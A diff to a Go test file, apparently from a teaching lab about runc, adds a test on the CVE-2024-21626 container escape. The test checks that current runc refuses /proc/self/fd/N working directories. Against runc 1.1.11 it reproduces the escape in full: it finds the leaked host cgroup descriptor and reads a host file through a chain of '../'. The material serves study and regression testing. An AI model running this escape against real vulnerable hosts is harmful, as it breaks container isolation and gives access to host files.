@@ -13,6 +13,7 @@ import (
 	"strings"
 	"testing"
 
+	"al.essio.dev/pkg/shellescape"
 	"github.com/opencontainers/runtime-spec/specs-go"
 	"golang.org/x/sys/unix"
 	"gotest.tools/v3/assert"
@@ -215,7 +216,8 @@ func TestLifecycle_WhoIsTheParentOfTheContainersProcess(t *testing.T) {
 // first tried a temporary bind mount of its own file that is read-only. Otherwise it copied itself into a memfd, a file in memory, and
 // sealed it: the kernel refuses every write. 1.1.15 always copies. Since 1.2.0 runc first tries an overlay mount of its own file that is
 // read-only. That needs no copy: with the copy a start takes some 60 % longer. runc copies itself only where the overlay cannot be
-// mounted. Any other program of the host that enters a container without such a protection can be replaced in the same way.
+// mounted. Any other program of the host that enters a container without such a protection can be replaced in the same way. The
+// control is such a program: runc 1.0-rc6, the last release with the bug, has no go.mod, and does not build with today's dependencies.
 //
 // Hint: let another container share the pid namespace, and look at /proc/PID/exe of `runc init` from inside and from outside.
 // Spec: https://github.com/advisories/GHSA-gxmr-w5mj-v8hh
@@ -305,6 +307,210 @@ func TestLifecycle_WhyIsRuncInitASealedCopy(t *testing.T) {
 	q.Answer("`runc init` runs inside of the container, where programs can open its file by /proc/PID/exe. So runc executes itself in a " +
 		"form that no process can write to: through a read-only mount, or as a sealed copy in memory. Otherwise a container could replace the " +
 		"host's runc, as in CVE-2019-5736.")
+}
+
+// An open directory of the host in `runc init` is a way out of the container: with /proc/self/fd/N as its working directory the program
+// begins there, and `..` leads to each file of the host. runc up to 1.1.11 left /sys/fs/cgroup open (CVE-2024-21626).
+//
+// `runc init` inherits runc's open files. It enters the container's namespaces and root, but a descriptor still leads to the mount on which
+// it was opened. chdir(2) to /proc/self/fd/N follows the descriptor, and not a path below the root. So an image's WORKDIR, or the argument
+// of exec --cwd, could name a directory of the host. The program was still in its own namespaces, and in its rootfs. But it could read and
+// write the host's files as root.
+//
+// Since 1.1.12, runc opens such directories with O_CLOEXEC, so that `runc init` does not have them. It also asks for its working directory
+// before it executes the program. getcwd(2) reports a directory outside of the root as unreachable, and then runc gives up. It refuses even
+// a directory that its caller passes on by --preserve-fds. That is no protection from such a descriptor: the program has it, and can
+// use it by itself.
+//
+// Hint: which descriptors in /proc/PID/fd of `runc init` are directories? Compare /proc/PID/cwd with /proc/PID/root.
+// Spec: https://github.com/opencontainers/runc/security/advisories/GHSA-xr7r-f8xq-vfvv
+// Kernel: https://man7.org/linux/man-pages/man5/proc_pid_fd.5.html, https://man7.org/linux/man-pages/man2/getcwd.2.html
+func TestLifecycle_WhatCanAProgramReachThroughAnOpenDirectory(t *testing.T) {
+	q := session.Question(t, lab.MutatesVM, "What can a program reach through an open directory of the host?")
+	defer q.Recover()
+	runc.SkipUnlessRunc(q, "the descriptors of `runc init`")
+	e := &escape{b: bundle.Busybox(q, "sleep", "3600"), dir: q.Mkdir("host"), text: "a file of the host"}
+	q.WriteLine(e.file(), e.text)
+	c := runc.New(q, e.b)
+	init := c.CreateAndStart()
+
+	q.Step("create a container: its `runc init` has no descriptor of a directory of the host")
+	waiting := runc.Variant(q, e.b, "waiting")
+	e.create(q, waiting)
+	directories := e.openDirectories(q, waiting)
+	assert.Check(q, cmp.Len(directories, 0), "directories of the host that are open in `runc init`")
+	q.Fact("`runc init`: open directories of the host", len(directories))
+
+	q.Step("name the descriptors as the working directory, of create and of exec --cwd: each is refused, and no program begins")
+	begun := e.tryDescriptors(q, c, "fd", usedDescriptors)
+	for _, operation := range []string{"create", "exec"} {
+		for fd, p := range begun[operation] {
+			q.Errorf("%s with the working directory /proc/self/fd/%d begins a program in %s", operation, fd, proc.Cwd(q, p.PID))
+		}
+		q.Fact(operation+" with /proc/self/fd/N: programs that begin", len(begun[operation]))
+	}
+
+	q.Step("pass an open directory of the host on, and name it as the working directory: create and exec are refused")
+	passed := runc.Variant(q, e.b, "passed", inDescriptor(3))
+	for _, row := range []struct {
+		operation string
+		r         lab.Result
+	}{
+		{"create", e.withOpenDirectory(q, passed.Argv("create", "--preserve-fds", "1"))},
+		{"exec", e.withOpenDirectory(q, append(c.Argv("exec", "--preserve-fds", "1", "--cwd", "/proc/self/fd/3"), "true"))},
+	} {
+		assert.Check(q, row.r.Code != 0, "%s with a working directory outside of the rootfs succeeds:\n%s", row.operation, row.r)
+		runc.AssertMessage(q, row.r.Stderr, "current working directory is outside of container mount namespace root")
+		q.Fact(row.operation+" with a directory that is passed on: error", runc.StableMessage(row.r.Stderr))
+	}
+	assert.Check(q, !file.Exists(passed.StateDir()), "a refused create left its state: %s", passed.StateDir())
+
+	q.Control("the same descriptor, and / as the working directory: exec succeeds, and the program can use the directory that it was given")
+	given := e.withOpenDirectory(q, append(c.Argv("exec", "--preserve-fds", "1", "--cwd", "/"), "cat", "/proc/self/fd/3/"+fileOfHost))
+	assert.Check(q, cmp.Equal(given.Stdout, e.text+"\n"), "%s", given)
+	q.Fact("exec with a directory that is passed on, and / as the working directory: reads", strings.TrimSpace(given.Stdout))
+
+	q.Run("runc-1.1.11", func(q *lab.Q) {
+		q.Control("runc 1.1.11 leaves a directory of the host open, and the same configurations lead to the host's files")
+		q.Use(q.Earlier("runc", "1.1.11"))
+		e.reachHost(q)
+	})
+
+	q.TearDown("delete the containers: nothing of them remains", func() {
+		waiting.Delete()
+		c.KillAndDelete(init)
+	})
+	q.Answer("Each file of the host. With /proc/self/fd/N as its working directory the program begins in the open directory, and `..` leads " +
+		"from there to the host's root. runc up to 1.1.11 left /sys/fs/cgroup open. Later releases leave no directory of the host open, and " +
+		"refuse a working directory outside of the container's root.")
+}
+
+// escape tries to begin a program in a directory of the host.
+type escape struct {
+	b    *bundle.Bundle
+	dir  string // on the host, with the file fileOfHost
+	text string // of the file
+}
+
+const fileOfHost = "file-of-the-host"
+
+func (e *escape) file() string { return filepath.Join(e.dir, fileOfHost) }
+
+// fromAnywhere returns a relative path to a file of the host, for a working directory at any depth: the parent of / is / itself.
+func (e *escape) fromAnywhere() string {
+	return strings.Repeat("../", 16) + strings.TrimPrefix(e.file(), "/")
+}
+
+// inDescriptor makes a descriptor of `runc init` the working directory of the program.
+func inDescriptor(fd int) func(*specs.Spec) {
+	return func(s *specs.Spec) { s.Process.Cwd = fmt.Sprintf("/proc/self/fd/%d", fd) }
+}
+
+// openDirectories returns the directories that are open in a waiting `runc init` and are not on a procfs: path → descriptor.
+func (e *escape) openDirectories(q *lab.Q, c *runc.Container) map[string]int {
+	q.Helper()
+	init := c.PID()
+	proc.WaitFor(q, proc.SleepsIn(init, unix.SYS_OPENAT)) // it opens exec.fifo: it opens and closes nothing any more
+	open := map[string]int{}
+	for _, d := range proc.Descriptors(q, init) {
+		if d.Directory && d.FileSystem != unix.PROC_SUPER_MAGIC {
+			open[d.Target] = d.FD
+		}
+	}
+	return open
+}
+
+// usedDescriptors is the number of descriptors of runc's caller. Go puts the files for `runc init` at 3 to 5, over what runc has there. So
+// what runc leaves open gets into `runc init` only above 5. With the Go of its time, runc 1.1.11 had enough files open by itself: the
+// advisory names descriptor 7. Built with today's Go, it has them only from its caller.
+const usedDescriptors = 7
+
+// byBusyCaller runs runc by a caller that has files open.
+func (e *escape) byBusyCaller(q *lab.Q, argv []string) lab.Result {
+	q.Helper()
+	return q.Exec("sh", "-c", "exec 3< /dev/null 4<&3 5<&3 6<&3; exec "+shellescape.QuoteCommand(argv))
+}
+
+// create creates a container that has to be there afterwards.
+func (e *escape) create(q *lab.Q, c *runc.Container) {
+	q.Helper()
+	r := e.byBusyCaller(q, c.Argv("create"))
+	assert.Assert(q, cmp.Equal(r.Code, 0), "%s", r)
+}
+
+// tryDescriptors begins programs in the working directories /proc/self/fd/N of seven descriptors, each by create and start, and by exec. It
+// returns those that run, by operation and descriptor.
+func (e *escape) tryDescriptors(q *lab.Q, running *runc.Container, name string, first int) map[string]map[int]proc.Process {
+	q.Helper()
+	begun := map[string]map[int]proc.Process{"create": {}, "exec": {}}
+	for fd := first; fd < first+7; fd++ {
+		c := runc.Variant(q, e.b, fmt.Sprintf("%s-%d", name, fd), inDescriptor(fd))
+		if e.byBusyCaller(q, c.Argv("create")).Code == 0 {
+			pid := c.PID()
+			c.Start()
+			proc.WaitFor(q, proc.Runs(pid, "sleep"))
+			begun["create"][fd] = proc.Snapshot(q, pid)
+		}
+		pidFile := filepath.Join(q.Dir, c.ID+"-exec.pid")
+		exec := running.Argv("exec", "--detach", "--pid-file", pidFile, "--cwd", c.Bundle.Spec.Process.Cwd)
+		if e.byBusyCaller(q, append(exec, "sleep", "3601")).Code == 0 {
+			pid := proc.PID(check.Int(q, file.Read(q, pidFile)))
+			file.Remove(q, pidFile)
+			proc.WaitFor(q, proc.Runs(pid, "sleep"))
+			begun["exec"][fd] = proc.Snapshot(q, pid)
+		}
+	}
+	return begun
+}
+
+// withOpenDirectory runs a command that inherits the directory of the host as descriptor 3.
+func (e *escape) withOpenDirectory(q *lab.Q, argv []string) lab.Result {
+	q.Helper()
+	return q.Exec("sh", "-c", "exec 3< "+filepath.Base(e.dir)+"; exec "+shellescape.QuoteCommand(argv))
+}
+
+// reachHost asserts that the runtime leaves the host's /sys/fs/cgroup open, and that a program can begin there and read the host's file.
+func (e *escape) reachHost(q *lab.Q) {
+	const cgroups = "/sys/fs/cgroup"
+	c := runc.Variant(q, e.b, "vulnerable")
+	e.create(q, c)
+	open := e.openDirectories(q, c)
+	leaked, ok := open[cgroups]
+	assert.Assert(q, ok, "%s is not among the open directories of `runc init`: %v", cgroups, open)
+	q.Fact("runc 1.1.11, `runc init`: open directories of the host", slices.Sorted(maps.Keys(open)))
+	pid := c.PID()
+	c.Start()
+	proc.WaitFor(q, proc.Runs(pid, "sleep"))
+	init := proc.Snapshot(q, pid)
+
+	begun := e.tryDescriptors(q, c, "vulnerable", max(3, leaked-4))
+	for _, operation := range []string{"create", "exec"} {
+		fds := slices.Collect(maps.Keys(begun[operation]))
+		i := slices.IndexFunc(fds, func(fd int) bool {
+			return file.Same(fmt.Sprintf("/proc/%d/cwd", begun[operation][fd].PID), cgroups)
+		})
+		assert.Assert(q, i >= 0, "%s: no program begins in the host's %s. Descriptors with which one begins: %v", operation, cgroups, fds)
+		fd := fds[i] // that of exec may be another one than that of create: it has opened other files before
+		p := begun[operation][fd]
+		assert.Check(q, file.Same(fmt.Sprintf("/proc/%d/root", p.PID), e.b.Rootfs()), "%s: the root is not the rootfs", operation)
+		assert.Check(q, p.NS["mnt"] != proc.Self(q).NS["mnt"], "%s: the program is in the host's mount namespace", operation)
+		q.Fact("runc 1.1.11, "+operation+" with /proc/self/fd/N: cwd", proc.Cwd(q, p.PID))
+		q.Fact("runc 1.1.11, "+operation+" with /proc/self/fd/N: namespaces of its own", p.OwnNamespaces(proc.Self(q).Identity))
+		var reads lab.Result
+		if operation == "create" {
+			reads = e.byBusyCaller(q, runc.Variant(q, e.b, "reads", inDescriptor(fd), bundle.Args("cat", e.fromAnywhere())).Argv("run"))
+		} else {
+			reads = e.byBusyCaller(q, append(c.Argv("exec", "--cwd", fmt.Sprintf("/proc/self/fd/%d", fd)), "cat", e.fromAnywhere()))
+		}
+		assert.Check(q, cmp.Equal(reads.Stdout, e.text+"\n"), "what the program reads by `..`: %s", reads)
+		q.Fact("runc 1.1.11, "+operation+" with /proc/self/fd/N: the program reads", strings.TrimSpace(reads.Stdout))
+	}
+
+	q.Control("with / as its working directory, a program of runc 1.1.11 does not find the file")
+	inRoot := e.byBusyCaller(q, append(c.Argv("exec"), "cat", e.fromAnywhere()))
+	assert.Check(q, inRoot.Code != 0, "%s", inRoot)
+	q.Fact("runc 1.1.11, exec with / as the working directory: exit code of the program", inRoot.Code)
+	c.KillAndDelete(init)
 }
 
 // Two containers over one rootfs share its files, but not their mounts. Two containers in one cgroup share its limits, and runc cannot
